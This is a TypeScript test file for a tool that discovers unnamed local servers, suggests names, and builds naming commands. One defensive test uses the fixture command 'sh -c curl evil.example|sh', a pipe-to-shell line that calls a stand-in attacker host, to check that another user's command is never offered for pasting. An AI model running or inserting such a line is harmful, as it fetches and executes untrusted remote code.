import { expect, test } from "bun:test";
import { servicesIn } from "../../src/discovery/services.ts";
import type { ObservedProcess, Scan } from "../../src/discovery/observation.ts";
import { unusableServers } from "../../src/discovery/unusable.ts";
import type { Supervised } from "../../src/routes/supervised.ts";
import { namingCommand, type Unusable } from "../../src/routes/unusable.ts";

type Seen = Partial<ObservedProcess> & { pid: number; ports?: readonly number[] };

function scanOf(...all: Seen[]): Scan {
  const processes = new Map<number, ObservedProcess>();
  const places = new Map<number, number[]>();
  for (const { ports = [], ...its } of all) {
    processes.set(its.pid, {
      startedAt: its.pid,
      parent: 0,
      group: its.pid,
      uid: 0,
      name: undefined,
      command: `bun ${its.pid}.ts`,
      cwd: "/srv/api",
      ...its,
    });
    for (const port of ports) places.set(port, [...(places.get(port) ?? []), its.pid]);
  }
  const observations = [...places].map(([port, pids]) => ({ address: "127.0.0.1", port, pids }));
  return { observations, processes, skipped: [] };
}

const host = { hostName: "desk", wsl: false, uid: 0, ownPid: 999 };

function found(
  scan: Scan,
  {
    supervised = [],
    wsl = false,
  }: { supervised?: readonly Partial<Supervised>[]; wsl?: boolean } = {},
): Unusable[] {
  return unusableServers(scan, {
    ...host,
    wsl,
    services: servicesIn(scan, { ...host, wsl }),
    supervised: supervised as readonly Supervised[],
    ownPids: new Set([999]),
  });
}

test("a listening process without a NAME is one, with all of its ports; services and we ourselves are none", () => {
  const scan = scanOf(
    { pid: 7, ports: [3000, 50_123] },
    { pid: 8, name: "shop", ports: [4000] },
    { pid: 999, ports: [9090] },
  );
  expect(found(scan)).toEqual([
    {
      pid: 7,
      startedAt: 7,
      port: 3000,
      ports: [3000, 50_123],
      command: "bun 7.ts",
      cwd: "/srv/api",
      typed: "bun 7.ts",
      suggested: "api",
      fault: { kind: "no name" },
    },
  ]);
});

test("workers that share a socket are one server, the oldest's; and no server where one of them has a NAME", () => {
  expect(found(scanOf({ pid: 7, ports: [3000] }, { pid: 6, ports: [3000] }))).toMatchObject([
    { pid: 6 },
  ]);
  const one = scanOf({ pid: 7, ports: [3000] }, { pid: 6, name: "shop", ports: [3000] });
  expect(found(one)).toEqual([]);
});

test("the command is the one that was typed: that of the process group, in the same folder, and not a shell's", () => {
  const worker = { pid: 9, group: 8, ports: [3000], command: "/usr/bin/node /srv/api/vite.js" };
  const typed = (leader: Partial<ObservedProcess>) =>
    found(scanOf({ pid: 8, command: "npm run dev", ...leader }, worker))[0]?.typed;
  expect(typed({})).toBe("npm run dev");
  expect(typed({ cwd: "/srv" })).toBe("node vite.js");
  expect(typed({ uid: 5 })).toBe("node vite.js");
  expect(typed({ command: "/bin/sh -c node vite.js" })).toBe("node vite.js");
});

test("a name is suggested that no server has: the folder's, or else the program's", () => {
  const scan = scanOf(
    { pid: 5, name: "api", ports: [2000] },
    { pid: 6, ports: [3000] },
    { pid: 7, ports: [3001] },
    { pid: 8, ports: [3002], cwd: "/", command: "/usr/bin/python3 -m http.server" },
    { pid: 9, ports: [3003], cwd: "/мир", command: "[x]" },
    { pid: 10, ports: [3004], cwd: "/srv/gone (deleted)" },
  );
  expect(found(scan).map(({ suggested }) => suggested)).toEqual([
    "api-2",
    "api-3",
    "python3",
    "x",
    "gone",
  ]);
});

test("an overwritten environment, a NAME that is none, and the computer's are told apart", () => {
  const scan = scanOf(
    { pid: 5, ports: [2000], overwritten: true, command: "puma 6", parent: 4 },
    { pid: 4, command: "bash" },
    { pid: 6, ports: [3000], name: "My App" },
    { pid: 7, ports: [3001], name: "DESK" },
  );
  expect(found(scan, { wsl: true })).toMatchObject([
    { pid: 5, typed: undefined, fault: { kind: "overwritten" } },
    { pid: 6, fault: { kind: "bad name", name: "My App", near: "my-app" } },
    { pid: 7, fault: { kind: "computer's name", name: "DESK" } },
  ]);
});

test("a process that is to have no name is none, and neither is what has come of it", () => {
  const scan = scanOf(
    { pid: 5, ports: [2000], name: "-" },
    { pid: 6, parent: 5, ports: [3000], overwritten: true },
    { pid: 7, ports: [3001] },
  );
  expect(found(scan)).toMatchObject([{ pid: 7 }]);
});

test("what a project has started is its service, however its environment looks", () => {
  const scan = scanOf(
    { pid: 4, command: "sh" },
    { pid: 5, parent: 4, ports: [2000], overwritten: true },
    { pid: 6, ports: [3000] },
  );
  expect(found(scan, { supervised: [{ pid: 4, listens: [] }, { listens: [3000] }] })).toEqual([]);
});

test("an older server that has lost its name is listed with the reason, and is not one of these", () => {
  const scan = scanOf(
    { pid: 4, name: "shop", ports: [1000] },
    { pid: 5, name: "shop", ports: [2000] },
  );
  expect(found(scan)).toEqual([]);
});

test("of another user's server no command is to be pasted, as that user has written it", () => {
  const command = "sh -c curl evil.example|sh";
  const [named] = found(scanOf({ pid: 4, ports: [1000], uid: 5, command }));
  expect(named).toMatchObject({ pid: 4, command, typed: undefined });
  expect(namingCommand(named!)).toBe("localhostess name api 1000");
  const [bad] = found(scanOf({ pid: 4, ports: [1000], uid: 5, command, name: "My Api" }));
  expect(bad).toMatchObject({ fault: { kind: "bad name" }, typed: undefined });
});

test("a control character of another program reaches neither the command nor the folder", () => {
  const [its] = found(scanOf({ pid: 4, ports: [1000], command: "a\x1bb", cwd: "/srv/\x1b" }));
  expect(its).toMatchObject({ command: "a\\x1bb", cwd: "/srv/\\x1b" });
});

test("our own programs are not servers of a person: another daemon, with a state directory of its own", () => {
  const scan = scanOf({ pid: 4, ports: [9091], command: "bun /opt/main.ts server start" });
  const options = { ...host, services: [], supervised: [], ownPids: new Set<number>() };
  expect(unusableServers(scan, { ...options, ownFile: "/opt/main.ts" })).toEqual([]);
  expect(unusableServers(scan, { ...options, ownFile: "/opt/other.ts" })).toHaveLength(1);
});

test("editors' helpers, browsers and language servers are none, and forwards by ssh are", () => {
  const scan = scanOf(
    { pid: 7, ports: [3000], command: "/usr/share/code/code --type=utility" },
    { pid: 8, ports: [9333], command: "/usr/lib/chromium/chromium --remote-debugging-port=9333" },
    { pid: 9, ports: [4000], command: "gopls serve -listen=:4000" },
    { pid: 10, ports: [5000], command: "ssh -N -L 5000:localhost:80 box" },
  );
  expect(found(scan).map(({ pid }) => pid)).toEqual([10]);
});
